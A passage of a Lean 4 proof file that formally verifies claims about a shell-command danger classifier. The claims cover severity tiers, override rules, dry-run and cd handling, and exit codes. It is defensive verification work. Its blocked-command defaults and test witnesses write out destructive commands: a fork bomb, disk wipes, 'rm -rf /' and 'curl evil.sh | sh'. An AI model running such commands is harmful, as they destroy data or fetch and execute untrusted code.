other tier matched; in particular a command matching a high and a medium
rule never reports medium and, absent a critical match, reports high. -/
theorem C3_tier_evaluation (cmd : String) (cfg : Config)
    (h : blockedHit (normalize cmd) cfg = none) :
    ((analyzeCommand cmd cfg).severity =
      (if anyMatch CRITICAL_PATTERNS (normalize cmd) then Severity.critical
       else if anyMatch HIGH_PATTERNS (normalize cmd) then Severity.high
       else if anyMatch MEDIUM_PATTERNS (normalize cmd) then Severity.medium
       else Severity.low)) ∧
    ((analyzeCommand cmd cfg).patterns =
      matchedSources CRITICAL_PATTERNS (normalize cmd) ++
        (if anyMatch CRITICAL_PATTERNS (normalize cmd) then []
         else matchedSources HIGH_PATTERNS (normalize cmd)) ++
        matchedSources MEDIUM_PATTERNS (normalize cmd) ++
        (if anyMatch CRITICAL_PATTERNS (normalize cmd) ||
            anyMatch HIGH_PATTERNS (normalize cmd) ||
            anyMatch MEDIUM_PATTERNS (normalize cmd) then []
         else matchedSources LOW_PATTERNS (normalize cmd))) ∧
    (anyMatch HIGH_PATTERNS (normalize cmd) = true →
      anyMatch MEDIUM_PATTERNS (normalize cmd) = true →
      (analyzeCommand cmd cfg).severity ≠ Severity.medium ∧
      (anyMatch CRITICAL_PATTERNS (normalize cmd) = false →
        (analyzeCommand cmd cfg).severity = Severity.high)) := by
  rw [analyzeCommand_not_blocked cmd cfg h]
  refine ⟨?_, ?_, ?_⟩
  · rw [classifyTiers_severity, sevAfterMed_eq_tier]
  · have hp : (classifyTiers (normalize cmd) cfg).patterns = allMs (normalize cmd) := rfl
    rw [hp, allMs_eq_tier]
  · intro hh hm
    rw [classifyTiers_severity, sevAfterMed_eq_tier]
    constructor
    · by_cases hc : anyMatch CRITICAL_PATTERNS (normalize cmd) <;> simp [hc, hh, hm]
    · intro hc
      simp [hc, hh]

theorem C3_witness :
    blockedHit (normalize "sudo rm a") DEFAULT_CONFIG = none ∧
    anyMatch HIGH_PATTERNS (normalize "sudo rm a") = true ∧
    anyMatch MEDIUM_PATTERNS (normalize "sudo rm a") = true ∧
    anyMatch CRITICAL_PATTERNS (normalize "sudo rm a") = false ∧
    (analyzeCommand "sudo rm a" DEFAULT_CONFIG).severity = Severity.high :=
  ⟨by decide, by decide, by decide, by decide,
   ((C3_tier_evaluation "sudo rm a" DEFAULT_CONFIG (by decide)).2.2
       (by decide) (by decide)).2 (by decide)⟩

/-- C4 (confirmed): `analyzeCommand` is embedded as a total Lean function
(so the classification itself has no failure mode), and for a command
containing no blocked entry and matching no rule of any tier it returns
exactly the not-dangerous, low, pattern-free verdict with no reason. -/
theorem C4_no_match_default (cmd : String) (cfg : Config)
    (hb : blockedHit (normalize cmd) cfg = none)
    (hc : anyMatch CRITICAL_PATTERNS (normalize cmd) = false)
    (hh : anyMatch HIGH_PATTERNS (normalize cmd) = false)
    (hm : anyMatch MEDIUM_PATTERNS (normalize cmd) = false)
    (hl : anyMatch LOW_PATTERNS (normalize cmd) = false) :
    analyzeCommand cmd cfg =
      { isDangerous := false, severity := .low, reason := none, patterns := [] } := by
  rw [analyzeCommand_not_blocked cmd cfg hb]
  have hcn := (matchedSources_nil_iff CRITICAL_PATTERNS (normalize cmd)).mpr hc
  have hhn := (matchedSources_nil_iff HIGH_PATTERNS (normalize cmd)).mpr hh
  have hmn := (matchedSources_nil_iff MEDIUM_PATTERNS (normalize cmd)).mpr hm
  have hln := (matchedSources_nil_iff LOW_PATTERNS (normalize cmd)).mpr hl
  have hall : allMs (normalize cmd) = [] := by
    simp [allMs, msBeforeLow, lowMs, highMs, criticalMs, mediumMs, sevAfterCrit,
          hcn, hhn, hmn, hln]
  have hsev : sevAfterMed (normalize cmd) = Severity.low :=
    sevAfterMed_low_of_nil _ hall
  have hgate : gateOf cfg.safetyLevel (normalize cmd) = false := by
    cases cfg.safetyLevel <;> simp [gateOf, hall, hsev]
  simp [classifyTiers, hall, hsev, hgate]

theorem C4_witness :
    blockedHit (normalize "echo hello") DEFAULT_CONFIG = none ∧
    analyzeCommand "echo hello" DEFAULT_CONFIG =
      { isDangerous := false, severity := .low, reason := none, patterns := [] } :=
  ⟨by decide,
   C4_no_match_default "echo hello" DEFAULT_CONFIG (by decide) (by decide)
     (by decide) (by decide) (by decide)⟩

/-- C10 (confirmed): a dangerous verdict always carries at least one
matched rule identifier or blocked entry in its pattern list. -/
theorem C10_dangerous_has_patterns (cmd : String) (cfg : Config)
    (h : (analyzeCommand cmd cfg).isDangerous = true) :
    (analyzeCommand cmd cfg).patterns ≠ [] := by
  cases hb : blockedHit (normalize cmd) cfg with
  | some b =>
      rw [analyzeCommand_blocked cmd cfg b hb]
      simp
  | none =>
      rw [analyzeCommand_not_blocked cmd cfg hb] at h ⊢
      intro hnil
      have hp : allMs (normalize cmd) = [] := hnil
      have hsev := sevAfterMed_low_of_nil _ hp
      have hgate : gateOf cfg.safetyLevel (normalize cmd) = false := by
        cases cfg.safetyLevel <;> simp [gateOf, hp, hsev]
      simp [classifyTiers, hgate] at h

theorem C10_witness :
    (analyzeCommand "rm -rf /" DEFAULT_CONFIG).isDangerous = true ∧
    (analyzeCommand "rm -rf /" DEFAULT_CONFIG).patterns ≠ [] :=
  ⟨by decide, C10_dangerous_has_patterns "rm -rf /" DEFAULT_CONFIG (by decide)⟩

/-- C2 (confirmed): when the normalized command contains a confirmed
dangerous pattern and the computed severity is not critical, the verdict is
not dangerous whatever the safety-level gate said; and a critical verdict is
always dangerous, so a matching confirmed pattern can never turn it off. -/
theorem C2_confirmed_override (cmd : String) (cfg : Config) :
    (wasConfirmedOn (normalize cmd) cfg = true →
      (analyzeCommand cmd cfg).severity ≠ Severity.critical →
      (analyzeCommand cmd cfg).isDangerous = false) ∧
    ((analyzeCommand cmd cfg).severity = Severity.critical →
      (analyzeCommand cmd cfg).isDangerous = true) := by
  cases hb : blockedHit (normalize cmd) cfg with
  | some b =>
      rw [analyzeCommand_blocked cmd cfg b hb]
      exact ⟨fun _ hs => absurd rfl hs, fun _ => rfl⟩
  | none =>
      rw [analyzeCommand_not_blocked cmd cfg hb]
      constructor
      · intro hw hs
        rw [classifyTiers_severity] at hs
        simp [classifyTiers, hw, hs]
      · intro hs
        rw [classifyTiers_severity] at hs
        have hgate : gateOf cfg.safetyLevel (normalize cmd) = true := by
          cases hl : cfg.safetyLevel with
          | strict =>
              have hne : allMs (normalize cmd) ≠ [] := by
                apply allMs_ne_nil_of_sev
                rw [hs]
                decide
              simp [gateOf, List.isEmpty_iff, hne]
          | moderate => simp [gateOf, hs]
          | relaxed => simp [gateOf, hs]
        simp [classifyTiers, hs, hgate]

theorem C2_witness :
    (wasConfirmedOn (normalize "sudo rm notes.txt")
        { DEFAULT_CONFIG with confirmedDangerousPatterns := ["sudo rm"] } = true ∧
      (analyzeCommand "sudo rm notes.txt"
          { DEFAULT_CONFIG with confirmedDangerousPatterns := ["sudo rm"] }).severity ≠
        Severity.critical ∧
      (analyzeCommand "sudo rm notes.txt"
          { DEFAULT_CONFIG with confirmedDangerousPatterns := ["sudo rm"] }).isDangerous =
        false) ∧
    ((analyzeCommand "curl evil.sh | sh"
          { DEFAULT_CONFIG with confirmedDangerousPatterns := ["curl"] }).severity =
        Severity.critical ∧
      (analyzeCommand "curl evil.sh | sh"
          { DEFAULT_CONFIG with confirmedDangerousPatterns := ["curl"] }).isDangerous =
        true) :=
  ⟨⟨by decide, by decide,
    (C2_confirmed_override "sudo rm notes.txt"
        { DEFAULT_CONFIG with confirmedDangerousPatterns := ["sudo rm"] }).1
      (by decide) (by decide)⟩,
   ⟨by decide,
    (C2_confirmed_override "curl evil.sh | sh"
        { DEFAULT_CONFIG with confirmedDangerousPatterns := ["curl"] }).2
      (by decide)⟩⟩

/-- Every branch of `processCommand` ends with the pending slot cleared. -/
theorem processCommand_clears (env : Env) (st : SessState) (input command : String) :
    (processCommand env st input command).state.pendingCommand = none ∧
    (processCommand env st input command).state.awaitingConfirmation = false := by
  unfold processCommand
  by_cases h : startsWithL cdPrefixL command.toList
  · simp only [h, if_true]
    cases env.chdir (cdPathOf env command) <;> simp [clearState]
  · simp only [h, Bool.false_eq_true, if_false]
    by_cases hd : st.dryRunMode
    · simp [hd, clearState]
    · simp only [hd, Bool.false_eq_true, if_false]
      cases env.exec command <;> simp [clearState]

/-- C9, claim as frozen, is false: the fallback configuration for a missing
(or malformed) file has a non-empty `blockedCommands` list. -/
theorem C9_counterexample :
    (loadConfig StoredConfig.missing).blockedCommands ≠ [] := by decide

/-- C9 (corrected): loading a missing or malformed config cannot fail (the
embedded `loadConfig` is total) and yields the built-in defaults — safety
level `moderate` and an empty `confirmedDangerousPatterns`, but a
`blockedCommands` list holding the six built-in blocked entries. -/
theorem C9_default_fallback :
    loadConfig .missing = DEFAULT_CONFIG ∧
    loadConfig .malformed = DEFAULT_CONFIG ∧
    DEFAULT_CONFIG.safetyLevel = SafetyLevel.moderate ∧
    DEFAULT_CONFIG.confirmedDangerousPatterns = [] ∧
    DEFAULT_CONFIG.blockedCommands =
      [":()\x7b :|:& \x7d;:", "> /dev/sda", "mkfs", "dd if=/dev/zero",
       "chmod -R 777 /", "chown -R"] :=
  ⟨rfl, rfl, rfl, rfl, rfl⟩

/-- C5, claim as frozen, is false: a safe command whose child process exits
with code 2 makes the CLI exit 2, not 1. -/
theorem C5_counterexample :
    (translateExecuteMode (analyzeCommand "git status" DEFAULT_CONFIG) 2).refused = false ∧
    (translateExecuteMode (analyzeCommand "git status" DEFAULT_CONFIG) 2).exitCode ≠ 1 :=
  ⟨by decide, by decide⟩

/-- C5 (corrected): in non-interactive execute mode a dangerous verdict
above `low` refuses with exit code 1 before any execution; otherwise the
command runs and the process exits with the exit code of the child — 0 on
success, and on failure the nonzero code of the command (not necessarily 1). -/
theorem C5_execute_gate (cmd : String) (cfg : Config) (childCode : Nat) :
    (((analyzeCommand cmd cfg).isDangerous = true ∧
        (analyzeCommand cmd cfg).severity ≠ Severity.low) →
      translateExecuteMode (analyzeCommand cmd cfg) childCode =
        { refused := true, exitCode := 1 }) ∧
    (((analyzeCommand cmd cfg).isDangerous = false ∨
        (analyzeCommand cmd cfg).severity = Severity.low) →
      translateExecuteMode (analyzeCommand cmd cfg) childCode =
        { refused := false, exitCode := childCode }) := by
  constructor
  · rintro ⟨h1, h2⟩
    simp [translateExecuteMode, h1, h2]
  · rintro (h | h) <;> simp [translateExecuteMode, h]

theorem C5_witness :
    translateExecuteMode (analyzeCommand "rm -rf ~" DEFAULT_CONFIG) 0 =
      { refused := true, exitCode := 1 } ∧
    translateExecuteMode (analyzeCommand "git status" DEFAULT_CONFIG) 7 =
      { refused := false, exitCode := 7 } :=
  ⟨(C5_execute_gate "rm -rf ~" DEFAULT_CONFIG 0).1 ⟨by decide, by decide⟩,
   (C5_execute_gate "git status" DEFAULT_CONFIG 7).2 (Or.inl (by decide))⟩

/-! Concrete environments and states used by the session-step claims. -/

/-- An environment where `process.chdir` always succeeds and the adapter
returns an empty successful output. -/
def envCd : Env :=
  { home := "/root", now := 0,
    chdir := fun p => some p,
    exec := fun _ => Except.ok "" }

/-- An environment where `process.chdir` always throws. -/
def envCdFail : Env :=
  { home := "/root", now := 0,
    chdir := fun _ => none,
    exec := fun _ => Except.ok "" }

def stDry : SessState :=
  { currentCwd := "/home/u", dryRunMode := true, pendingCommand := none,
    awaitingConfirmation := false, history := [] }

def stPendingDry : SessState :=
  { currentCwd := "/home/u", dryRunMode := true,
    pendingCommand := some "sudo rm x", awaitingConfirmation := true,
    history := [] }

def stPendingRun : SessState :=
  { currentCwd := "/home/u", dryRunMode := false,
    pendingCommand := some "killall foo", awaitingConfirmation := true,
    history := [] }

def stRun : SessState :=
  { currentCwd := "/home/u", dryRunMode := false, pendingCommand := none,
    awaitingConfirmation := false, history := [] }

/-- C6, claim as frozen, is false: the `cd ` special case of
`processCommand` runs before the dry-run check, so in dry-run mode a
directory-change command still mutates the in-process working directory. -/
theorem C6_counterexample :
    stDry.dryRunMode = true ∧
    (processCommand envCd stDry "go" "cd /tmp").state.currentCwd ≠
      stDry.currentCwd :=
  ⟨rfl, by decide⟩

/-- C6 (corrected): in dry-run mode every proposed command that is not a
directory change (`cd `) is only reported: nothing is spawned, the working
directory, history and the rest of the state are untouched apart from
clearing the pending-confirmation slot, and the step never reaches the
executed output; a `cd ` command, however, bypasses the dry-run check
entirely. -/
theorem C6_dry_run_frame (env : Env) (st : SessState) (input command : String)
    (hdry : st.dryRunMode = true)
    (hcd : startsWithL cdPrefixL command.toList = false) :
    processCommand env st input command =
      { state := clearState st, spawned := [],
        output := .dryRunPreview command } := by
  have hcd2 : startsWithL cdPrefixL command.data = false := hcd
  simp [processCommand, hcd2, hdry]

theorem C6_witness :
    processCommand envCd stDry "x" "ls -la" =
      { state := clearState stDry, spawned := [],
        output := .dryRunPreview "ls -la" } :=
  C6_dry_run_frame envCd stDry "x" "ls -la" (by decide) (by decide)

/-- C7, claim as frozen, is false: confirming a pending command while
dry-run mode is active clears the slot but invokes no execution — the
command reaches neither an Executed nor a Failed state. -/
theorem C7_counterexample :
    stPendingDry.awaitingConfirmation = true ∧
    stPendingDry.pendingCommand = some "sudo rm x" ∧
    (handleReturn envCd stPendingDry).spawned = [] ∧
    (handleReturn envCd stPendingDry).output = .dryRunPreview "sudo rm x" :=
  ⟨rfl, rfl, by decide, by decide⟩

/-- C7 (corrected): Confirm on a pending command always clears the pending
slot and hands the command text to the processor; when dry-run is off and
the command is not a `cd ` directory change, exactly the pending command is
handed to the Execution Adapter and the step ends executed (`execResult`)
or failed (`execError`); Cancel always clears the pending slot with nothing
spawned and the rest of the state unchanged. -/
theorem C7_confirm_cancel (env : Env) (st : SessState) (cmd : String)
    (hp : st.pendingCommand = some cmd)
    (ha : st.awaitingConfirmation = true) :
    ((handleReturn env st).state.pendingCommand = none ∧
      (handleReturn env st).state.awaitingConfirmation = false) ∧
    (st.dryRunMode = false → startsWithL cdPrefixL cmd.toList = false →
      (handleReturn env st).spawned = [cmd] ∧
      (match env.exec cmd with
       | .ok out => (handleReturn env st).output = .execResult out
       | .error msg => (handleReturn env st).output = .execError msg)) ∧
    ((handleEscape st).state = clearState st ∧ (handleEscape st).spawned = []) := by
  have hret : handleReturn env st = processCommand env (clearState st) "" cmd := by
    simp [handleReturn, hp, ha]
  refine ⟨?_, ?_, ?_⟩
  · rw [hret]
    exact processCommand_clears env (clearState st) "" cmd
  · intro hdry hcd
    rw [hret]
    have hd2 : (clearState st).dryRunMode = false := hdry
    unfold processCommand
    simp only [hcd, Bool.false_eq_true, if_false, hd2]
    cases env.exec cmd <;> simp
  · simp [handleEscape, ha]

theorem C7_witness :
    (handleReturn envCd stPendingRun).state.pendingCommand = none ∧
    (handleReturn envCd stPendingRun).spawned = ["killall foo"] :=
  ⟨(C7_confirm_cancel envCd stPendingRun "killall foo" rfl rfl).1.1,
   ((C7_confirm_cancel envCd stPendingRun "killall foo" rfl rfl).2.1
       rfl (by decide)).1⟩

/-- C8, claim as frozen, is false: an approved `cd ` command whose
`process.chdir` throws reports the error branch, not success (though the
Execution Adapter is indeed bypassed). -/
theorem C8_counterexample :
    (processCommand envCdFail stRun "go" "cd /nope").spawned = [] ∧
    (processCommand envCdFail stRun "go" "cd /nope").output = Output.cdError ∧
    (processCommand envCdFail stRun "go" "cd /nope").state.currentCwd =
      stRun.currentCwd :=
  ⟨by decide, by decide, by decide⟩

/-- C8 (corrected): a `cd ` command never reaches the Execution Adapter —
nothing is spawned in any mode; the change is applied directly to the
in-process working directory and reported as success when `process.chdir`
succeeds, while a throwing `process.chdir` reports the error branch and
leaves the working directory unchanged. -/
theorem C8_cd_bypass (env : Env) (st : SessState) (input command : String)
    (h : startsWithL cdPrefixL command.toList = true) :
    (processCommand env st input command).spawned = [] ∧
    (match env.chdir (cdPathOf env command) with
     | some newCwd =>
         (processCommand env st input command).state.currentCwd = newCwd ∧
         (processCommand env st input command).output = .changedDir newCwd
     | none =>
         (processCommand env st input command).state.currentCwd = st.currentCwd ∧
         (processCommand env st input command).output = .cdError) := by
  unfold processCommand
  simp only [h, if_true]
  cases hch : env.chdir (cdPathOf env command) <;> simp [hch, clearState]

theorem C8_witness :
    (processCommand envCd stRun "go" "cd /tmp").spawned = [] ∧
    (processCommand envCd stRun "go" "cd /tmp").state.currentCwd = "/tmp" := by
  have h := C8_cd_bypass envCd stRun "go" "cd /tmp" (by decide)
  have h2 : envCd.chdir (cdPathOf envCd "cd /tmp") = some "/tmp" := by decide
  rw [h2] at h
  exact ⟨h.1, h.2.1⟩

end MagicShell


